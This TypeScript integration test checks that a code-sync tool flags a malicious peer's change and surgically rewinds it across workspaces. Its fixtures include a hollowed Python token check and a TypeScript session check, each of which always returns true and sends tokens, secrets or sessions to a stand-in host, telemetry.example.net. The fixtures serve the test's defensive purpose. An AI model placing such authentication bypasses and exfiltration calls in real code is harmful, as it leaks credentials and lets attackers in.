// Playbook 1 steps 3 and 4 on real processes: a Mothership and two peers, alice and mallory,
// each with its own copy of a Python and a TypeScript project and `[workspace] apply = "auto"`.
// Mallory hollows verify_token and adds an exfiltration call (and does the same to a TS
// session check); the change reaches every workspace. Alice then edits a neighbouring
// function. The security review of mallory's records flags the malicious change; alice
// rewinds exactly the two functions to her last good intent with the command lines of the
// playbook; her neighbour edit survives byte for byte; the Mothership receives the rewinds and
// applies them, ending with the same files as alice.
import { mkdir, readFile, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Team } from '../containment/helpers.js'

const VERIFY = 'src/auth/verify.py'
const SESSION = 'web/src/session.ts'

const GOOD_VERIFY_TOKEN = `def verify_token(token, secret):
    """Accept only tokens of the form payload.signature, signed with secret."""
    if not token or "." not in token:
        return False
    payload, signature = token.rsplit(".", 1)
    expected = hmac.new(secret, payload.encode(), hashlib.sha256).hexdigest()
    return hmac.compare_digest(expected, signature)`

const EVIL_VERIFY_TOKEN = `def verify_token(token, secret):
    requests.post("https://telemetry.example.net/collect", json={"token": token, "secret": secret.decode()})
    return True`

const NEIGHBOUR = `def normalize_username(name):
    return name.strip()`

const NEIGHBOUR_EDITED = `def normalize_username(name):
    """Usernames compare case-insensitively."""
    return name.strip().lower()`

const pyFile = (imports: string, verify: string, neighbour: string): string =>
  `"""Token checks for the auth service."""\n${imports}\n\n\n${verify}\n\n\n${neighbour}\n`
const GOOD_IMPORTS = 'import hashlib\nimport hmac'
const EVIL_IMPORTS = 'import hashlib\nimport hmac\nimport requests'

const GOOD_CHECK = `export function checkSession (s: Session | null, now: number): boolean {
  if (s === null) return false
  return s.expires > now
}`
const EVIL_CHECK = `export function checkSession (s: Session | null, now: number): boolean {
  void fetch('https://telemetry.example.net/s', { method: 'POST', body: JSON.stringify(s) })
  return true
}`
const tsFile = (check: string): string =>
  `export interface Session { user: string, expires: number }\n\n${check}\n\nexport function displayName (s: Session): string {\n  return s.user\n}\n`

describe('surgical rewind across peers (workspace wired into the node)', () => {
  let team: Team
  const members = ['mothership', 'alice', 'mallory']
  const file = (name: string, rel: string): string => path.join(team.m(name).cwd, ...rel.split('/'))
  const read = async (name: string, rel: string): Promise<string> => await readFile(file(name, rel), 'utf8')
  const write = async (name: string, rel: string, text: string): Promise<void> => {
    await mkdir(path.dirname(file(name, rel)), { recursive: true })
    await writeFile(file(name, rel), text)
  }

  beforeAll(async () => {
    // `[workspace] path = "."` from the environment resolves against each process's working
    // directory: every member's own `work/` copy, for its daemon and its commands alike.
    team = await Team.create({ peers: ['alice', 'mallory'], env: { AURA_WORKSPACE_PATH: '.', AURA_WORKSPACE_APPLY: 'auto' } })
    for (const name of members) {
      await write(name, VERIFY, pyFile(GOOD_IMPORTS, GOOD_VERIFY_TOKEN, NEIGHBOUR))
      await write(name, SESSION, tsFile(GOOD_CHECK))
    }
  }, 120_000)

  afterAll(async () => { await team?.close() }, 60_000)

  it('flags the malicious change, rewinds only it, keeps the neighbour edit, and the rewind reaches another peer', async () => {
    const mallory = team.m('mallory')

    // Both peers start recording: the first intent takes a baseline snapshot.
    const good = await team.json('alice', 'aura log-intent "start recording the auth service"')
    expect(good.baseline).toMatchObject({ files: 2 })
    expect(good.changes).toBeNull()
    await team.json('mallory', 'aura log-intent "start"')

    // Mallory's malicious change, logged as a harmless one.
    await write('mallory', VERIFY, pyFile(EVIL_IMPORTS, EVIL_VERIFY_TOKEN, NEIGHBOUR))
    await write('mallory', SESSION, tsFile(EVIL_CHECK))
    const bad = await team.json('mallory', 'aura log-intent "tidy token verification"')
    expect(bad.changes).toMatchObject({ files: 2 })

    // Auto-apply writes it into the other workspaces.
    const evil = pyFile(EVIL_IMPORTS, EVIL_VERIFY_TOKEN, NEIGHBOUR)
    for (const name of ['alice', 'mothership']) {
      await team.until(`${name} applied mallory's change`, async () => await read(name, VERIFY) === evil && await read(name, SESSION) === tsFile(EVIL_CHECK), 20_000)
    }

    // Alice's legitimate change to the neighbouring function, after the malicious one.
    await write('alice', VERIFY, pyFile(EVIL_IMPORTS, EVIL_VERIFY_TOKEN, NEIGHBOUR_EDITED))
    const neighbour = await team.json('alice', 'aura log-intent "normalize usernames case-insensitively"')
    expect(neighbour.changes).toMatchObject({ files: 1, units: 1 })
    await team.until('the Mothership applied alice\'s change', async () => await read('mothership', VERIFY) === pyFile(EVIL_IMPORTS, EVIL_VERIFY_TOKEN, NEIGHBOUR_EDITED), 20_000)

    // Step 1, then Step 3 as the playbook writes it: contain, then review the identity's changes.
    await team.ok('mothership', `aura mothership revoke-peer ${mallory.id} --reason "laptop theft 2026-04-21"`)
    const review = await team.json('mothership', `aura pr-review --actor ${mallory.id} --since 30d --security`)
    expect(review.records.map((r: any) => r.id)).toEqual([bad.id])
    expect(review.records[0]).toMatchObject({ status: 'effective', signer: mallory.id })
    const at =
      (location: string): string[] => review.flags.filter((f: any) => f.location === location).map((f: any) => f.rule)
    expect(at(`${VERIFY}:verify_token`)).toContain('network-call')
    expect(at(`${VERIFY}:verify_token`).some((r) => r === 'security-check-removed' || r === 'security-function-hollowed')).toBe(true)
    expect(at(`${SESSION}:checkSession`)).toContain('network-call')
    expect(review.flags.every((f: any) => f.recordId === bad.id)).toBe(true)
    const human = await team.ok('mothership', `aura pr-review --actor ${mallory.id} --since 30d --security`)
    expect(human).toContain('network-call src/auth/verify.py:verify_token')

    // Step 4: a dry run writes nothing; then the playbook's command line, verbatim.
    const before = await read('alice', VERIFY)
    const dry = await team.json('alice', `aura rewind --function ${VERIFY}:verify_token --to ${good.id.slice(0, 10)} --dry-run`)
    expect(dry).toMatchObject({ dryRun: true, changed: true, record: null })
    expect(dry.diff).toContain('+    return hmac.compare_digest(expected, signature)')
    expect(await read('alice', VERIFY)).toBe(before)
    const rewound = await team.sh('alice', `aura rewind --function src/auth/verify.py:verify_token --to ${good.id.slice(0, 10)}`)
    expect(rewound.code).toBe(0)
    expect(rewound.stdout).toContain('rewound src/auth/verify.py:verify_token')
    const ts = await team.json('alice', `aura rewind --function ${SESSION}:checkSession --to ${good.id.slice(0, 10)}`)
    expect(ts).toMatchObject({ changed: true, target: good.id })

    // Only the rewound functions changed: the neighbour edit (and the rest) byte for byte.
    const expected = pyFile(EVIL_IMPORTS, GOOD_VERIFY_TOKEN, NEIGHBOUR_EDITED)
    expect(await read('alice', VERIFY)).toBe(expected)
    expect(await read('alice', SESSION)).toBe(tsFile(GOOD_CHECK))

    // The rewinds are signed records with their deltas, referring to the target.
    const rewinds = await team.json<any[]>('alice', 'aura trace --kind rewind')
    expect(rewinds).toHaveLength(2)
    for (const r of rewinds) {
      expect(r.refs[0]).toBe(good.id)
      expect(r.delta.entries).toHaveLength(1)
    }

    // Another peer receives the rewinds and applies them: the same bytes as alice.
    await team.until('the Mothership applied the rewinds', async () => await read('mothership', VERIFY) === expected && await read('mothership', SESSION) === tsFile(GOOD_CHECK), 20_000)
    const ms = await team.status('mothership')
    expect(ms.workspace).toMatchObject({ apply: 'auto', pending: 0, conflicts: 0 })
    expect(await team.json('mothership', 'aura conflicts')).toEqual([])

    // The automatic pre-rewind snapshots replicated too, with alice as their author.
    const snaps = await team.json<any[]>('mothership', 'aura snapshot-list --author alice --path src/auth')
    expect(snaps.map((s) => s.reason)).toEqual(['baseline', 'pre-rewind'])

    // Alice's next intent records only new local edits: the rewinds moved her baseline.
    const next = await team.json('alice', 'aura log-intent "nothing new"')
    expect(next.changes).toMatchObject({ units: 0 })
  }, 60_000)
})
